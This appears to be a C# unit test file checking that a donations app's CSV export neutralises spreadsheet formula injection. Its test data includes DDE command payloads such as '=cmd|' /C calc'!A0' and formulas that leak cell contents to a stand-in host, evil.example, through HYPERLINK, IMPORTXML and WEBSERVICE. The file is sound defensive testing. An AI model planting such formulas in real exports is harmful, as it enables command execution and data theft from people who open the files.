using System.Text;
using CsCheck;
using Donations.Server.Reports;

namespace Donations.Tests.Reports;

/// <summary>CSV files: RFC 4180, and nothing in them that a spreadsheet would run (OWASP, CSV injection).</summary>
public sealed class CsvCellsTests
{
    private const string Starts = "=+-@\uFF1D\uFF0B\uFF0D\uFF20";

    /// <summary>What people tried elsewhere, and what the rules must not miss.</summary>
    public static TheoryData<string, string> Formulas => new()
    {
        { "=1+1", "'=1+1" },
        { "+1", "'+1" },
        { "-1", "'-1" },
        { "@SUM(A1)", "'@SUM(A1)" },
        { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
        { "-2+3+cmd|' /C notepad'!A1", "'-2+3+cmd|' /C notepad'!A1" },
        { "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0" },
        { "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Error\"\")\"" },
        { "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "\"'=IMPORTXML(CONCAT(\"\"http://evil.example/\"\",A1),\"\"//a\"\")\"" },
        { "=WEBSERVICE(\"http://evil.example\")", "\"'=WEBSERVICE(\"\"http://evil.example\"\")\"" },
        { " =1+1", "' =1+1" },
        { "\u00A0=1+1", "'\u00A0=1+1" },
        { "\u200B=1+1", "'\u200B=1+1" },
        { "\uFEFF=1+1", "'\uFEFF=1+1" },
        { "\"=1+1", "\"'\"\"=1+1\"" },
        { "\"\" =1+1", "\"'\"\"\"\" =1+1\"" },
        { "'=1+1", "''=1+1" },
        { "\u201C=1+1", "'\u201C=1+1" },
        { "\0=1+1", "'\0=1+1" },
        { "\t=1+1", "'\t'=1+1" },
        { "\r=1", "\"'\r'=1\"" },
        { "\n=1", "\"'\n'=1\"" },
        { "\tplain", "'\tplain" },
        { "\nplain", "\"'\nplain\"" },
        { "\uFF1D1", "'\uFF1D1" },
        { "\uFF0B1", "'\uFF0B1" },
        { "\uFF0D1", "'\uFF0D1" },
        { "\uFF20A1", "'\uFF20A1" },
        // Each a cell of its own where the spreadsheet splits at semicolons or line ends.
        { "a;=1+1", "a;'=1+1" },
        { "a; =1+1", "a;' =1+1" },
        { "a\n=1+1", "\"a\n'=1+1\"" },
        { "a\",\"=1+1", "\"a\"\",\"\"=1+1\"" },
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_formula_is_made_inert(string text, string expected) => Assert.Equal(expected + "\r\n", Csv(c => c.Text(text)));

    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("press-in-exile", "press-in-exile")]
    [InlineData("a = b + c - d @ e", "a = b + c - d @ e")]
    [InlineData("a; b", "a; b")]
    [InlineData("(=1)", "(=1)")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("he said \"no\"", "\"he said \"\"no\"\"\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("Žurnāls 🗞", "Žurnāls 🗞")]
    [InlineData("", "\"\"")]
    [InlineData(null, "\"\"")]
    public void Other_texts_stay_as_they_are(string? text, string expected) => Assert.Equal(expected + "\r\n", Csv(c => c.Text(text)));

    [Fact]
    public void No_text_is_lost_and_none_starts_a_formula() => Gen.String[Gen.OneOf(Gen.Char[Starts + " \t\r\n;\"'"], Gen.Char.AlphaNumeric), 0, 12].Sample(text =>
    {
        var inert = FormulaGuard.Inert(text);
        Assert.Equal(text.Replace("'", ""), inert.Replace("'", ""));
        Assert.All(inert.Split(';', '\t', '\r', '\n'), part => Assert.False(part.Trim(' ', '"') is [var c, ..] && Starts.Contains(c), inert));
    });

    [Fact]
    public void Numbers_dates_and_times_are_written_as_such()
    {
        var row = Csv(c =>
        {
            c.Amount(new(-400, "USD"));
            c.Amount(new(5, "KWD"));
            c.Amount(new(-700, "JPY"));
            c.Amount(new(long.MinValue, "USD"));
            c.Amount(null);
            c.WholeNumber(-3);
            c.WholeNumber(null);
            c.Rate("-0.92");
            c.Rate("=1+1");
            c.Date(new(2026, 2, 3));
            c.Date(null);
            c.Time(1_795_510_800_000_000);
            c.Time(null);
        });
        Assert.Equal("-4.00,0.005,-700,-92233720368547758.08,,-3,,-0.92,'=1+1,2026-02-03,,2026-11-24T11:00:00+02:00,\r\n", row);
    }

    private static string Csv(Action<CellWriter> row)
    {
        var stream = new MemoryStream();
        using (var csv = new CsvCells(stream, TimeZoneInfo.FindSystemTimeZoneById("Europe/Riga")))
        {
            row(csv);
            csv.EndRow();
            csv.End();
        }

        return Encoding.UTF8.GetString(stream.ToArray());
    }
}
